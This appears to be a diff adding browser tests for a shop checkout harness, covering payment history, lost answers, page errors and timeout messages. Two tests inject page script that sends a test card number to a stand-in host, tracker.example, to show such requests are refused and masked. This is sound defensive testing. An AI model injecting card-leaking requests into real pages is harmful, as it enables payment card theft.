@@ -1,0 +1,137 @@
+"""A window in front of the running shop: what it writes down, what it refuses, and what it says when nothing comes."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser
+
+from harness import profile, stack
+from harness.browser import trouble, window
+from harness.cards import card
+from harness.failure import Failure
+from harness.history import History
+from harness.masking import sightings
+from harness.shop import Shop
+from harness.shopper.browser import BrowserShopper
+from harness.stack import Stack
+
+VISA, DECLINED = "4242424242424242", "4000000000000002"
+
+
+@pytest.fixture(scope="module")
+def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
+    """The reference shop."""
+    with stack.start("embedded", profile.load(), seed=1, logs=tmp_path_factory.mktemp("stack")) as started:
+        yield started
+
+
+@pytest.fixture
+def shop(running: Stack, browser: Browser, request: pytest.FixtureRequest) -> Iterator[Shop]:
+    """A shop of this test alone."""
+    opened = Shop(running, History(), 1, request.node.nodeid)
+    yield opened
+    opened.close()
+
+
+def at_checkout(shop: Shop) -> BrowserShopper:
+    """Ada in front of the checkout page."""
+    ada = shop.browser_shopper()
+    ada.api.add(shop.product().id).expect(200, 201)
+    ada.goto("/checkout")
+    return ada
+
+
+def codes(failures: list[Failure]) -> list[str]:
+    """What was found."""
+    return [failure.code for failure in failures]
+
+
+def test_the_history_is_an_api_runs(shop: Shop) -> None:
+    """The judges need not know how a shopper reached the checkout; no secret is written down."""
+    ada = at_checkout(shop)
+    paid = ada.pay_here(card(VISA))
+    events = shop.history.events
+    (confirmed,) = shop.history.of(kind="ok", operation="confirm_payment")
+    assert (confirmed.actor, confirmed.data["system"]) == ("stripe.js", "stripe")
+    assert confirmed.data["payment_intent_id"] == paid.intent_id
+    (settled,) = shop.history.of(kind="ok", operation="confirm")
+    assert (settled.data["user_id"], settled.data["system"]) == (ada.user_id, "checkout")
+    invoke = events[settled.data["invoke"]]
+    assert (invoke.kind, invoke.data["payment_intent_id"], invoke.actor) == ("invoke", paid.intent_id, settled.actor)
+    assert invoke.actor == f"Ada {ada.email}"
+    assert ada.intents == [paid.intent_id]
+    assert sightings(shop.history.to_jsonl()) == []
+    assert shop.close_and_judge() == []
+
+
+def test_an_answer_is_written_down_before_the_page_has_it(shop: Shop) -> None:
+    ada = at_checkout(shop)
+    ada.type_card(card(VISA))
+    with trouble.answer_lost(ada.window, trouble.CONFIRM, "the confirmation"):
+        ada.press_pay()
+        ada.finish()
+    (lost,) = shop.history.of(kind="info")
+    assert (lost.operation, lost.data["lost"]) == ("confirm_payment", "the answer was lost on its way to the browser")
+    assert ada.window.traffic.of("confirm_payment") == []
+
+
+def test_somebody_else_is_not_asked(shop: Shop) -> None:
+    """Whatever a page asks of another host is refused, and fails the case; the address is told without secrets."""
+    ada = at_checkout(shop)
+    ada.page.evaluate("() => { window.open('https://tracker.example/?card=4242424242424242') }")
+    ada.window.until(lambda: bool(ada.window.traffic.refused), "the request to be refused")
+    (failure,) = [one for one in shop.close_and_judge() if one.code == "foreign_request"]
+    assert failure.however == ("https://tracker.example/?card=4242…4242",)
+
+
+def test_a_policy_that_is_broken_fails_the_case(shop: Shop) -> None:
+    """The shop's own Content-Security-Policy stops what its pages have no reason to ask, and is heard."""
+    ada = at_checkout(shop)
+    ada.page.evaluate("fetch('https://tracker.example/').catch(() => 0)")
+    ada.window.until(lambda: bool(ada.window.errors), "the policy to be broken")
+    assert "page_error" in codes(shop.close_and_judge())
+
+
+def test_a_page_that_throws_fails_the_case(shop: Shop) -> None:
+    ada = at_checkout(shop)
+    ada.page.evaluate("() => { setTimeout(() => { throw new Error('the pages broke') }) }")
+    ada.window.until(lambda: bool(ada.window.errors), "the error to be heard")
+    (failure,) = [one for one in shop.close_and_judge() if one.code == "page_error"]
+    assert "the pages broke" in failure.however[0]
+
+
+def test_what_does_not_come_is_told_with_what_is_there(shop: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
+    ada = at_checkout(shop)
+    ada.type_card(card(VISA))
+    ada.window.context.set_default_timeout(100)
+    monkeypatch.setattr(window, "WAIT_MS", 100)
+    with pytest.raises(Failure, match="Waited in vain for the success page") as raised:
+        _ = ada.shown
+    assert "Pay Now" in raised.value.however[0]
+    with pytest.raises(Failure, match="did not come to /orders"):
+        ada.window.at("/orders")
+    with pytest.raises(Failure, match="Waited in vain for snow"):
+        ada.window.until(lambda: False, "snow")
+    with pytest.raises(Failure, match="No page asked for orders"):
+        ada.window.answer_to(lambda: None, "orders")
+
+
+def test_a_message_of_an_earlier_attempt_is_not_taken_for_the_next_ones(shop: Shop) -> None:
+    ada = at_checkout(shop)
+    ada.pay_here(card(DECLINED))
+    ada.type_card(card(VISA))
+    with trouble.held_up(ada.window, trouble.CONFIRM, "the confirmation") as held:
+        ada.press_pay()
+        assert ada.message == ""
+        held.wait()
+        held.go_on()
+        assert ada.shown["payment_intent_id"] == ada.intents[0]
+
+
+def test_pages_offer_no_currency(shop: Shop) -> None:
+    with pytest.raises(ValueError, match="came 'eur'"):
+        shop.browser_shopper().pay(card(VISA), currency="eur")
+    with pytest.raises(ValueError, match="came 'sing'"):
+        at_checkout(shop).answer_bank("sing")
